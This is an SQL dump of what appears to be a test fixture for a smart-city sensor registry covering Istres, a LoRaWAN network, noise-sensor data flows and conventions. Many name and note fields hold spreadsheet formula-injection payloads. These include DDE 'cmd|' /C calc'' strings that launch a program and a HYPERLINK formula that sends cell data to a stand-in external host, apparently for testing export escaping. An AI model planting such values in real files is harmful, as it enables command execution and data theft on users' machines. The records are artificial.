BEGIN TRANSACTION;
CREATE TABLE "convention_versions" (
  "convention_id" TEXT,
  "n" INTEGER,
  "from_day" TEXT,
  "until_day" TEXT,
  "act" TEXT,
  "parties" TEXT,
  "families" TEXT,
  "signed_on" TEXT,
  "effective_from" TEXT,
  "effective_until" TEXT,
  "terminated_on" TEXT,
  "reciprocal" INTEGER,
  "consideration" TEXT,
  "removal_days" INTEGER,
  "notice_days" INTEGER,
  "scope" TEXT,
  "third_parties" TEXT,
  "renewal" TEXT,
  "termination" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
);
INSERT INTO "convention_versions" VALUES('istres',1,'2023-12-01','2024-06-30',NULL,'metropole|istres','installation|data','2023-12-01','2023-12-01','2030-12-31',NULL,1,'free',90,60,'{"insee_codes": ["13047"], "supports": ["istres-ep-1"], "networks": ["lorawan"]}','[{"party": "association", "interface_clause_on": "2023-12-15", "document": "annexes/association.pdf"}]',NULL,NULL);
INSERT INTO "convention_versions" VALUES('istres',2,'2024-07-01','2029-12-31','1','metropole|istres','installation|data|connectivity','2023-12-01','2023-12-01','2030-12-31',NULL,1,'free',60,60,'{"insee_codes": ["13047"], "supports": ["istres-ep-1"], "networks": ["lorawan"]}','[{"party": "association", "interface_clause_on": "2023-12-15", "document": "annexes/association.pdf"}]',NULL,NULL);
INSERT INTO "convention_versions" VALUES('istres',3,'2030-01-01','2030-12-31','association → metropole','metropole|istres','installation|data|connectivity','2023-12-01','2023-12-01','2030-12-31',NULL,1,'free',60,60,'{"insee_codes": ["13047"], "supports": ["istres-ep-1"], "networks": ["lorawan"]}','[{"party": "association", "interface_clause_on": "2023-12-15", "document": "annexes/association.pdf"}, {"party": "metropole", "interface_clause_on": "2023-12-15", "document": "annexes/association.pdf"}]',NULL,NULL);
CREATE TABLE "conventions" (
  "id" TEXT,
  "title" TEXT,
  "status" TEXT,
  "signed_on" TEXT,
  "effective_from" TEXT,
  "effective_until" TEXT,
  "terminated_on" TEXT,
  "reciprocal" INTEGER,
  "consideration" TEXT,
  "free_of_charge_basis" TEXT,
  "removal_days" INTEGER,
  "notice_days" INTEGER,
  "confirmed_on" TEXT,
  "notes" TEXT,
  PRIMARY KEY ("id")
);
INSERT INTO "conventions" VALUES('istres','@SUM(1+1)*cmd|'' /C calc''!A0','signed','2023-12-01','2023-12-01','2030-12-31',NULL,1,'free','public_service_free_to_all',90,60,NULL,NULL);
CREATE TABLE "conventions_amendments" (
  "convention_id" TEXT,
  "n" INTEGER,
  "number" TEXT,
  "signed_on" TEXT,
  "effective_from" TEXT,
  "annex" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
);
INSERT INTO "conventions_amendments" VALUES('istres',1,'1','2024-06-03','2024-07-01','avenant-1');
CREATE TABLE "conventions_amendments_deliberations" (
  "convention_id" TEXT,
  "amendments_n" INTEGER,
  "n" INTEGER,
  "deliberation_id" TEXT,
  PRIMARY KEY ("convention_id", "amendments_n", "n"),
  FOREIGN KEY ("convention_id", "amendments_n") REFERENCES "conventions_amendments" ("convention_id", "n"),
  FOREIGN KEY ("deliberation_id") REFERENCES "deliberations" ("id")
);
INSERT INTO "conventions_amendments_deliberations" VALUES('istres',1,1,'cadre');
INSERT INTO "conventions_amendments_deliberations" VALUES('istres',1,2,'istres');
CREATE TABLE "conventions_annexes" (
  "convention_id" TEXT,
  "n" INTEGER,
  "id" TEXT,
  "kind" TEXT,
  "title" TEXT,
  "path" TEXT,
  "sha256" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
);
INSERT INTO "conventions_annexes" VALUES('istres',1,NULL,'supports','＝1+1',NULL,NULL);
INSERT INTO "conventions_annexes" VALUES('istres',2,'avenant-1','amendment','Avenant n° 1',NULL,NULL);
INSERT INTO "conventions_annexes" VALUES('istres',3,NULL,'data_charter',NULL,'annexes/charte.pdf','0000000000000000000000000000000000000000000000000000000000000000');
CREATE TABLE "conventions_deliberations" (
  "convention_id" TEXT,
  "n" INTEGER,
  "deliberation_id" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
  FOREIGN KEY ("deliberation_id") REFERENCES "deliberations" ("id")
);
INSERT INTO "conventions_deliberations" VALUES('istres',1,'cadre');
INSERT INTO "conventions_deliberations" VALUES('istres',2,'istres');
CREATE TABLE "conventions_families" (
  "convention_id" TEXT,
  "n" INTEGER,
  "families" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
);
INSERT INTO "conventions_families" VALUES('istres',1,'installation');
INSERT INTO "conventions_families" VALUES('istres',2,'data');
CREATE TABLE "conventions_parties" (
  "convention_id" TEXT,
  "n" INTEGER,
  "party_id" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
  FOREIGN KEY ("party_id") REFERENCES "parties" ("id")
);
INSERT INTO "conventions_parties" VALUES('istres',1,'metropole');
INSERT INTO "conventions_parties" VALUES('istres',2,'istres');
CREATE TABLE "conventions_scope_insee_codes" (
  "convention_id" TEXT,
  "n" INTEGER,
  "insee_codes" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
);
INSERT INTO "conventions_scope_insee_codes" VALUES('istres',1,'13047');
CREATE TABLE "conventions_scope_networks" (
  "convention_id" TEXT,
  "n" INTEGER,
  "network_id" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
  FOREIGN KEY ("network_id") REFERENCES "networks" ("id")
);
INSERT INTO "conventions_scope_networks" VALUES('istres',1,'lorawan');
CREATE TABLE "conventions_scope_supports" (
  "convention_id" TEXT,
  "n" INTEGER,
  "support_id" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
  FOREIGN KEY ("support_id") REFERENCES "supports" ("id")
);
INSERT INTO "conventions_scope_supports" VALUES('istres',1,'istres-ep-1');
CREATE TABLE "conventions_signatures" (
  "convention_id" TEXT,
  "n" INTEGER,
  "party" TEXT,
  "capacity" TEXT,
  "signed_on" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
  FOREIGN KEY ("party") REFERENCES "parties" ("id")
);
INSERT INTO "conventions_signatures" VALUES('istres',1,'istres','Maire','2023-12-01');
CREATE TABLE "conventions_third_parties" (
  "convention_id" TEXT,
  "n" INTEGER,
  "party" TEXT,
  "interface_clause_on" TEXT,
  "document" TEXT,
  PRIMARY KEY ("convention_id", "n"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
  FOREIGN KEY ("party") REFERENCES "parties" ("id")
);
INSERT INTO "conventions_third_parties" VALUES('istres',1,'association','2023-12-15','annexes/association.pdf');
CREATE TABLE "coverage" (
  "kind" TEXT,
  "id" TEXT,
  "n" INTEGER,
  "family" TEXT,
  "user" TEXT,
  "partners" TEXT,
  "through" TEXT,
  "state" TEXT,
  "convention" TEXT,
  "from_day" TEXT,
  "until_day" TEXT,
  "why_not" TEXT,
  "not_in_force" TEXT,
  PRIMARY KEY ("kind", "id", "n"),
  FOREIGN KEY ("user") REFERENCES "parties" ("id"),
  FOREIGN KEY ("convention") REFERENCES "conventions" ("id")
);
INSERT INTO "coverage" VALUES('equipment','istres-noise-1',1,'installation','metropole','istres','istres-ep-1','covered','istres','2023-12-01','2030-12-31',NULL,NULL);
INSERT INTO "coverage" VALUES('flow','noise',1,'data','metropole','istres',NULL,'covered','istres','2023-12-01','2030-12-31',NULL,NULL);
INSERT INTO "coverage" VALUES('flow','noise',2,'data','metropole','association',NULL,'covered','istres','2023-12-01','2030-12-31',NULL,NULL);
CREATE TABLE "deliberations" (
  "id" TEXT,
  "number" TEXT,
  "body_id" TEXT,
  "body_name" TEXT,
  "date" TEXT,
  "transmitted_on" TEXT,
  "published_on" TEXT,
  "subject" TEXT,
  "matter_code" TEXT,
  "matter_name" TEXT,
  "url" TEXT,
  "document_path" TEXT,
  "document_sha256" TEXT,
  "confirmed_on" TEXT,
  "notes" TEXT,
  PRIMARY KEY ("id"),
  FOREIGN KEY ("body_id") REFERENCES "parties" ("id")
);
INSERT INTO "deliberations" VALUES('cadre','IVIS-1/23/BM','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','2023-03-16',NULL,NULL,'-2+3+cmd|'' /C calc''!D2',NULL,NULL,'https://www.example.org/deliberations/cadre',NULL,NULL,NULL,NULL);
INSERT INTO "deliberations" VALUES('istres','2023-047','istres','Istres','2023-10-02','2023-10-05','2023-10-06','Deux lignes,
et « des guillemets " droits »',NULL,NULL,NULL,'annexes/deliberation.pdf','0000000000000000000000000000000000000000000000000000000000000000',NULL,NULL);
CREATE TABLE "deliberations_amends" (
  "deliberation_id" TEXT,
  "n" INTEGER,
  "amends" TEXT,
  PRIMARY KEY ("deliberation_id", "n"),
  FOREIGN KEY ("deliberation_id") REFERENCES "deliberations" ("id"),
  FOREIGN KEY ("amends") REFERENCES "deliberations" ("id")
);
INSERT INTO "deliberations_amends" VALUES('istres',1,'cadre');
CREATE TABLE "deliberations_cites" (
  "deliberation_id" TEXT,
  "n" INTEGER,
  "cites" TEXT,
  PRIMARY KEY ("deliberation_id", "n"),
  FOREIGN KEY ("deliberation_id") REFERENCES "deliberations" ("id"),
  FOREIGN KEY ("cites") REFERENCES "deliberations" ("id")
);
INSERT INTO "deliberations_cites" VALUES('istres',1,'cadre');
CREATE TABLE "equipment" (
  "id" TEXT,
  "type" TEXT,
  "owner_id" TEXT,
  "owner_name" TEXT,
  "status" TEXT,
  "support_id" TEXT,
  "network" TEXT,
  "installed_on" TEXT,
  "installed_before" TEXT,
  "placed_on" TEXT,
  "decommissioned_on" TEXT,
  "removed_on" TEXT,
  "active_until" TEXT,
  "operator_id" TEXT,
  "operator_name" TEXT,
  "maintainer_id" TEXT,
  "maintainer_name" TEXT,
  "manufacturer" TEXT,
  "model" TEXT,
  "serial_number" TEXT,
  "dev_eui" TEXT,
  "join_eui" TEXT,
  "lorawan_class" TEXT,
  "gateway_eui" TEXT,
  "mac_address" TEXT,
  "imei" TEXT,
  "accuracy_class" TEXT,
  "height_m" REAL,
  "power_source" TEXT,
  "consumption_w" REAL,
  "weight_kg" REAL,
  "convention_id" TEXT,
  "replaces" TEXT,
  "calibrated_on" TEXT,
  "calibration_period_months" INTEGER,
  "documentation" TEXT,
  "cost_eur" REAL,
  "procurement_ref" TEXT,
  "visibility" TEXT,
  "confirmed_on" TEXT,
  "notes" TEXT,
  "support_type" TEXT,
  "support_owner" TEXT,
  "insee_code" TEXT,
  "commune" TEXT,
  "lon" REAL,
  "lat" REAL,
  PRIMARY KEY ("id"),
  FOREIGN KEY ("owner_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("support_id") REFERENCES "supports" ("id"),
  FOREIGN KEY ("network") REFERENCES "networks" ("id"),
  FOREIGN KEY ("operator_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("maintainer_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id"),
  FOREIGN KEY ("replaces") REFERENCES "equipment" ("id")
);
INSERT INTO "equipment" VALUES('istres-noise-0','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','removed',NULL,NULL,'2023-12-11',NULL,NULL,'2024-03-09','2024-03-10',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,'istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,-4.5,43.51345);
INSERT INTO "equipment" VALUES('istres-noise-1','sensor','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','active','istres-ep-1','lorawan','2024-03-11',NULL,'2024-05-01',NULL,NULL,NULL,'association','a",=1+1,"b;c','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Sondes Réunies',' =1+1','0012345678901234','70B3D57ED0061234','70B3D57ED0000001','A',NULL,NULL,NULL,NULL,3.5,'battery',0.1,0.01,'istres','istres-noise-0','2024-03-01',24,NULL,1747.3,NULL,NULL,NULL,NULL,'street_light','Istres','13047','Istres',4.98747123456,43.5);
CREATE TABLE "equipment_attributes" (
  "equipment_id" TEXT,
  "key" TEXT,
  "value" TEXT,
  PRIMARY KEY ("equipment_id", "key"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id")
);
INSERT INTO "equipment_attributes" VALUES('istres-noise-1','COULEUR','=RAL 7016');
CREATE TABLE "equipment_captures" (
  "equipment_id" TEXT,
  "n" INTEGER,
  "captures" TEXT,
  PRIMARY KEY ("equipment_id", "n"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id")
);
INSERT INTO "equipment_captures" VALUES('istres-noise-1',1,'audio');
CREATE TABLE "equipment_events" (
  "equipment_id" TEXT,
  "n" INTEGER,
  "date" TEXT,
  "kind" TEXT,
  "note" TEXT,
  PRIMARY KEY ("equipment_id", "n"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id")
);
INSERT INTO "equipment_events" VALUES('istres-noise-1',1,'2024-03-11','installation',NULL);
INSERT INTO "equipment_events" VALUES('istres-noise-1',2,'2024-04-01','fault','ligne
=1+1');
CREATE TABLE "equipment_measures" (
  "equipment_id" TEXT,
  "n" INTEGER,
  "property" TEXT,
  "unit" TEXT,
  PRIMARY KEY ("equipment_id", "n"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id")
);
INSERT INTO "equipment_measures" VALUES('istres-noise-1',1,'noiseLevel','dB');
INSERT INTO "equipment_measures" VALUES('istres-noise-1',2,'batteryLevel',NULL);
CREATE TABLE "equipment_mobile_insee_codes" (
  "equipment_id" TEXT,
  "n" INTEGER,
  "insee_codes" TEXT,
  PRIMARY KEY ("equipment_id", "n"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id")
);
INSERT INTO "equipment_mobile_insee_codes" VALUES('istres-noise-0',1,'13047');
INSERT INTO "equipment_mobile_insee_codes" VALUES('istres-noise-0',2,'13055');
CREATE TABLE "equipment_placements" (
  "equipment_id" TEXT,
  "n" INTEGER,
  "support" TEXT,
  "location_lon" REAL,
  "location_lat" REAL,
  "from" TEXT,
  "until" TEXT,
  "reason" TEXT,
  PRIMARY KEY ("equipment_id", "n"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id"),
  FOREIGN KEY ("support") REFERENCES "supports" ("id")
);
INSERT INTO "equipment_placements" VALUES('istres-noise-1',1,NULL,4.9871,43.5135,'2024-03-11','2024-03-31','	=1+1');
INSERT INTO "equipment_placements" VALUES('istres-noise-1',2,'istres-ep-1',4.98748,43.51345,'2024-04-01','2024-04-30',NULL);
CREATE TABLE "equipment_previous_owners" (
  "equipment_id" TEXT,
  "n" INTEGER,
  "owner" TEXT,
  "until" TEXT,
  PRIMARY KEY ("equipment_id", "n"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id"),
  FOREIGN KEY ("owner") REFERENCES "parties" ("id")
);
INSERT INTO "equipment_previous_owners" VALUES('istres-noise-1',1,'istres','2024-03-31');
CREATE TABLE "equipment_use_cases" (
  "equipment_id" TEXT,
  "n" INTEGER,
  "use_case_id" TEXT,
  PRIMARY KEY ("equipment_id", "n"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id"),
  FOREIGN KEY ("use_case_id") REFERENCES "use_cases" ("id")
);
INSERT INTO "equipment_use_cases" VALUES('istres-noise-0',1,'noise');
INSERT INTO "equipment_use_cases" VALUES('istres-noise-0',2,'waste');
INSERT INTO "equipment_use_cases" VALUES('istres-noise-1',1,'noise');
CREATE TABLE "flows" (
  "id" TEXT,
  "title" TEXT,
  "producer_id" TEXT,
  "producer_name" TEXT,
  "access" TEXT,
  "personal_data" INTEGER,
  "controller_id" TEXT,
  "controller_name" TEXT,
  "purpose" TEXT,
  "legal_basis" TEXT,
  "retention" TEXT,
  "dpia_status" TEXT,
  "dpia_reference" TEXT,
  "dpia_done_on" TEXT,
  "notice_url" TEXT,
  "outside_eu" INTEGER,
  "status" TEXT,
  "platform_name" TEXT,
  "platform_operator_id" TEXT,
  "platform_operator_name" TEXT,
  "network" TEXT,
  "protocol" TEXT,
  "format" TEXT,
  "frequency" TEXT,
  "licence" TEXT,
  "access_url" TEXT,
  "theme" TEXT,
  "completeness" REAL,
  "max_latency" TEXT,
  "convention_id" TEXT,
  "started_on" TEXT,
  "ended_on" TEXT,
  "confirmed_on" TEXT,
  "notes" TEXT,
  PRIMARY KEY ("id"),
  FOREIGN KEY ("producer_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("controller_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("platform_operator_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("network") REFERENCES "networks" ("id"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
);
INSERT INTO "flows" VALUES('noise','Niveaux de bruit','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','restricted',1,'metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','Mesurer le bruit','public_task','P1M','done','AIPD-1','2024-02-01',NULL,0,'active','Plateforme','association','a",=1+1,"b;c','lorawan','mqtt','json','PT10M',NULL,NULL,'ENVI',0.95,'PT1H','istres','2024-03-12',NULL,NULL,NULL);
CREATE TABLE "flows_consumers" (
  "flow_id" TEXT,
  "n" INTEGER,
  "party_id" TEXT,
  PRIMARY KEY ("flow_id", "n"),
  FOREIGN KEY ("flow_id") REFERENCES "flows" ("id"),
  FOREIGN KEY ("party_id") REFERENCES "parties" ("id")
);
INSERT INTO "flows_consumers" VALUES('noise',1,'istres');
INSERT INTO "flows_consumers" VALUES('noise',2,'association');
CREATE TABLE "flows_equipment" (
  "flow_id" TEXT,
  "n" INTEGER,
  "equipment_id" TEXT,
  PRIMARY KEY ("flow_id", "n"),
  FOREIGN KEY ("flow_id") REFERENCES "flows" ("id"),
  FOREIGN KEY ("equipment_id") REFERENCES "equipment" ("id")
);
INSERT INTO "flows_equipment" VALUES('noise',1,'istres-noise-1');
CREATE TABLE "flows_personal_data_categories" (
  "flow_id" TEXT,
  "n" INTEGER,
  "categories" TEXT,
  PRIMARY KEY ("flow_id", "n"),
  FOREIGN KEY ("flow_id") REFERENCES "flows" ("id")
);
INSERT INTO "flows_personal_data_categories" VALUES('noise',1,'voice');
CREATE TABLE "flows_use_cases" (
  "flow_id" TEXT,
  "n" INTEGER,
  "use_case_id" TEXT,
  PRIMARY KEY ("flow_id", "n"),
  FOREIGN KEY ("flow_id") REFERENCES "flows" ("id"),
  FOREIGN KEY ("use_case_id") REFERENCES "use_cases" ("id")
);
INSERT INTO "flows_use_cases" VALUES('noise',1,'noise');
CREATE TABLE "networks" (
  "id" TEXT,
  "name" TEXT,
  "technology" TEXT,
  "operator_id" TEXT,
  "operator_name" TEXT,
  "access" TEXT,
  "status" TEXT,
  "owner_id" TEXT,
  "owner_name" TEXT,
  "lorawan_region" TEXT,
  "lorawan_net_id" TEXT,
  "started_on" TEXT,
  "ended_on" TEXT,
  "convention_id" TEXT,
  "confirmed_on" TEXT,
  "notes" TEXT,
  PRIMARY KEY ("id"),
  FOREIGN KEY ("operator_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("owner_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("convention_id") REFERENCES "conventions" ("id")
);
INSERT INTO "networks" VALUES('lorawan','Réseau LoRaWAN','lorawan','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','shared','in_service','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','EU863-870','000013','2023-12-15',NULL,'istres',NULL,NULL);
CREATE TABLE "networks_coverage_insee_codes" (
  "network_id" TEXT,
  "n" INTEGER,
  "coverage_insee_codes" TEXT,
  PRIMARY KEY ("network_id", "n"),
  FOREIGN KEY ("network_id") REFERENCES "networks" ("id")
);
INSERT INTO "networks_coverage_insee_codes" VALUES('lorawan',1,'13047');
CREATE TABLE "networks_shared_with" (
  "network_id" TEXT,
  "n" INTEGER,
  "party_id" TEXT,
  PRIMARY KEY ("network_id", "n"),
  FOREIGN KEY ("network_id") REFERENCES "networks" ("id"),
  FOREIGN KEY ("party_id") REFERENCES "parties" ("id")
);
INSERT INTO "networks_shared_with" VALUES('lorawan',1,'istres');
CREATE TABLE "parties" (
  "id" TEXT,
  "name" TEXT,
  "category" TEXT,
  "siren" TEXT,
  "siret" TEXT,
  "insee_code" TEXT,
  "commune" TEXT,
  "nonprofit" INTEGER,
  "contact_email" TEXT,
  "dpo_email" TEXT,
  "website" TEXT,
  "data_charter_signed_on" TEXT,
  "data_charter_document" TEXT,
  "ended_on" TEXT,
  "confirmed_on" TEXT,
  "notes" TEXT,
  PRIMARY KEY ("id")
);
INSERT INTO "parties" VALUES('association','a",=1+1,"b;c','private',NULL,NULL,NULL,NULL,1,NULL,NULL,NULL,NULL,NULL,'2030-01-01',NULL,'+33 4 91 55 11 11');
INSERT INTO "parties" VALUES('istres','Istres','commune','211300470',NULL,'13047','Istres',NULL,NULL,NULL,NULL,NULL,NULL,NULL,'2024-01-10','''entre apostrophes''');
INSERT INTO "parties" VALUES('metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','metropole','200054807','20005480700017',NULL,NULL,NULL,'numerique@example.org','dpo@example.org','https://www.example.org/','2023-12-01','annexes/charte.pdf',NULL,NULL,'sep=;');
CREATE TABLE "parties_successors" (
  "party_id" TEXT,
  "n" INTEGER,
  "party" TEXT,
  "from" TEXT,
  "deliberation" TEXT,
  "document" TEXT,
  "sha256" TEXT,
  PRIMARY KEY ("party_id", "n"),
  FOREIGN KEY ("party_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("party") REFERENCES "parties" ("id"),
  FOREIGN KEY ("deliberation") REFERENCES "deliberations" ("id")
);
INSERT INTO "parties_successors" VALUES('association',1,'metropole','2030-01-01','cadre','https://www.example.org/dissolution.pdf','9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08');
CREATE TABLE "parties_writers_domains" (
  "party_id" TEXT,
  "n" INTEGER,
  "domains" TEXT,
  PRIMARY KEY ("party_id", "n"),
  FOREIGN KEY ("party_id") REFERENCES "parties" ("id")
);
INSERT INTO "parties_writers_domains" VALUES('istres',1,'istres.example.org');
CREATE TABLE "parties_writers_keys" (
  "party_id" TEXT,
  "n" INTEGER,
  "keys" TEXT,
  PRIMARY KEY ("party_id", "n"),
  FOREIGN KEY ("party_id") REFERENCES "parties" ("id")
);
INSERT INTO "parties_writers_keys" VALUES('istres',1,'SHA256:VpAew07yfl/pnwH6Qjaw86WeJf3607inCQQurqnOs1M');
CREATE TABLE "smartreg_about" (name TEXT PRIMARY KEY, value TEXT);
INSERT INTO "smartreg_about" VALUES('version','1');
INSERT INTO "smartreg_about" VALUES('registry','Golden registry');
INSERT INTO "smartreg_about" VALUES('commit','7eb53e3683c651ddbf0c3f0abab5449b1a26acaa');
INSERT INTO "smartreg_about" VALUES('reference_date','2024-06-01');
INSERT INTO "smartreg_about" VALUES('rules','<rules>');
INSERT INTO "smartreg_about" VALUES('audience','internal');
INSERT INTO "smartreg_about" VALUES('digest','sha256:ce6b96b32e2a184403f85a345be2a3f768aa604971cba4c607f5d97984e013fa');
CREATE TABLE "supports" (
  "id" TEXT,
  "type" TEXT,
  "owner_id" TEXT,
  "owner_name" TEXT,
  "manager_id" TEXT,
  "manager_name" TEXT,
  "insee_code" TEXT,
  "commune" TEXT,
  "accuracy_class" TEXT,
  "status" TEXT,
  "local_ref" TEXT,
  "address" TEXT,
  "height_m" REAL,
  "material" TEXT,
  "condition" TEXT,
  "max_load_kg" REAL,
  "max_devices" INTEGER,
  "capacity_checked_on" TEXT,
  "power_availability" TEXT,
  "power_max_w" REAL,
  "restrictions" TEXT,
  "visibility" TEXT,
  "confirmed_on" TEXT,
  "notes" TEXT,
  "lon" REAL,
  "lat" REAL,
  PRIMARY KEY ("id"),
  FOREIGN KEY ("owner_id") REFERENCES "parties" ("id"),
  FOREIGN KEY ("manager_id") REFERENCES "parties" ("id")
);
INSERT INTO "supports" VALUES('istres-ep-1','street_light','istres','Istres','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','13047','Istres','A','in_service','-12.5','a;=1+1;b',4.0e-07,'steel',NULL,123456789.125,2,'2024-01-10','permanent',60.0,'	=1+1','internal',NULL,NULL,4.98747123456,43.5);
CREATE TABLE "supports_attributes" (
  "support_id" TEXT,
  "key" TEXT,
  "value" TEXT,
  PRIMARY KEY ("support_id", "key"),
  FOREIGN KEY ("support_id") REFERENCES "supports" ("id")
);
INSERT INTO "supports_attributes" VALUES('istres-ep-1','N° LAMPE','007');
CREATE TABLE "supports_previous_owners" (
  "support_id" TEXT,
  "n" INTEGER,
  "owner" TEXT,
  "until" TEXT,
  PRIMARY KEY ("support_id", "n"),
  FOREIGN KEY ("support_id") REFERENCES "supports" ("id"),
  FOREIGN KEY ("owner") REFERENCES "parties" ("id")
);
INSERT INTO "supports_previous_owners" VALUES('istres-ep-1',1,'metropole','2023-12-31');
CREATE TABLE "use_cases" (
  "id" TEXT,
  "title" TEXT,
  "owner_id" TEXT,
  "owner_name" TEXT,
  "domain" TEXT,
  "status" TEXT,
  "department" TEXT,
  "objective" TEXT,
  "started_on" TEXT,
  "ended_on" TEXT,
  "confirmed_on" TEXT,
  "notes" TEXT,
  PRIMARY KEY ("id"),
  FOREIGN KEY ("owner_id") REFERENCES "parties" ("id")
);
INSERT INTO "use_cases" VALUES('noise','Observatoire du bruit','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','noise','production',NULL,NULL,NULL,NULL,NULL,NULL);
INSERT INTO "use_cases" VALUES('waste','Remplissage des bacs','istres','Istres','waste','idea',NULL,NULL,NULL,NULL,NULL,NULL);
CREATE TABLE "use_cases_assessments" (
  "use_case_id" TEXT,
  "n" INTEGER,
  "date" TEXT,
  "rating" INTEGER,
  "summary" TEXT,
  "recommendation" TEXT,
  PRIMARY KEY ("use_case_id", "n"),
  FOREIGN KEY ("use_case_id") REFERENCES "use_cases" ("id")
);
INSERT INTO "use_cases_assessments" VALUES('noise',1,'2025-07-15',4,'= utile','scale');
CREATE TABLE "use_cases_indicators" (
  "use_case_id" TEXT,
  "n" INTEGER,
  "name" TEXT,
  "unit" TEXT,
  "baseline" REAL,
  "target" REAL,
  "value" REAL,
  "measured_on" TEXT,
  PRIMARY KEY ("use_case_id", "n"),
  FOREIGN KEY ("use_case_id") REFERENCES "use_cases" ("id")
);
INSERT INTO "use_cases_indicators" VALUES('noise',1,'Nuits calmes','%',-3.25,50.0,12.3456789,'2025-06-30');
CREATE INDEX "idx_parties_successors_party" ON "parties_successors" ("party");
CREATE INDEX "idx_parties_successors_deliberation" ON "parties_successors" ("deliberation");
CREATE INDEX "idx_deliberations_body_id" ON "deliberations" ("body_id");
CREATE INDEX "idx_deliberations_cites_cites" ON "deliberations_cites" ("cites");
CREATE INDEX "idx_deliberations_amends_amends" ON "deliberations_amends" ("amends");
CREATE INDEX "idx_conventions_parties_party_id" ON "conventions_parties" ("party_id");
CREATE INDEX "idx_conventions_deliberations_deliberation_id" ON "conventions_deliberations" ("deliberation_id");
CREATE INDEX "idx_conventions_scope_supports_support_id" ON "conventions_scope_supports" ("support_id");
CREATE INDEX "idx_conventions_scope_networks_network_id" ON "conventions_scope_networks" ("network_id");
CREATE INDEX "idx_conventions_signatures_party" ON "conventions_signatures" ("party");
CREATE INDEX "idx_conventions_third_parties_party" ON "conventions_third_parties" ("party");
CREATE INDEX "idx_conventions_amendments_deliberations_deliberation_id" ON "conventions_amendments_deliberations" ("deliberation_id");
CREATE INDEX "idx_supports_owner_id" ON "supports" ("owner_id");
CREATE INDEX "idx_supports_manager_id" ON "supports" ("manager_id");
CREATE INDEX "idx_supports_previous_owners_owner" ON "supports_previous_owners" ("owner");
CREATE INDEX "idx_equipment_owner_id" ON "equipment" ("owner_id");
CREATE INDEX "idx_equipment_support_id" ON "equipment" ("support_id");
CREATE INDEX "idx_equipment_network" ON "equipment" ("network");
CREATE INDEX "idx_equipment_operator_id" ON "equipment" ("operator_id");
CREATE INDEX "idx_equipment_maintainer_id" ON "equipment" ("maintainer_id");
CREATE INDEX "idx_equipment_convention_id" ON "equipment" ("convention_id");
CREATE INDEX "idx_equipment_replaces" ON "equipment" ("replaces");
CREATE INDEX "idx_equipment_use_cases_use_case_id" ON "equipment_use_cases" ("use_case_id");
CREATE INDEX "idx_equipment_placements_support" ON "equipment_placements" ("support");
CREATE INDEX "idx_equipment_previous_owners_owner" ON "equipment_previous_owners" ("owner");
CREATE INDEX "idx_networks_operator_id" ON "networks" ("operator_id");
CREATE INDEX "idx_networks_owner_id" ON "networks" ("owner_id");
CREATE INDEX "idx_networks_convention_id" ON "networks" ("convention_id");
CREATE INDEX "idx_networks_shared_with_party_id" ON "networks_shared_with" ("party_id");
CREATE INDEX "idx_flows_producer_id" ON "flows" ("producer_id");
CREATE INDEX "idx_flows_controller_id" ON "flows" ("controller_id");
CREATE INDEX "idx_flows_platform_operator_id" ON "flows" ("platform_operator_id");
CREATE INDEX "idx_flows_network" ON "flows" ("network");
CREATE INDEX "idx_flows_convention_id" ON "flows" ("convention_id");
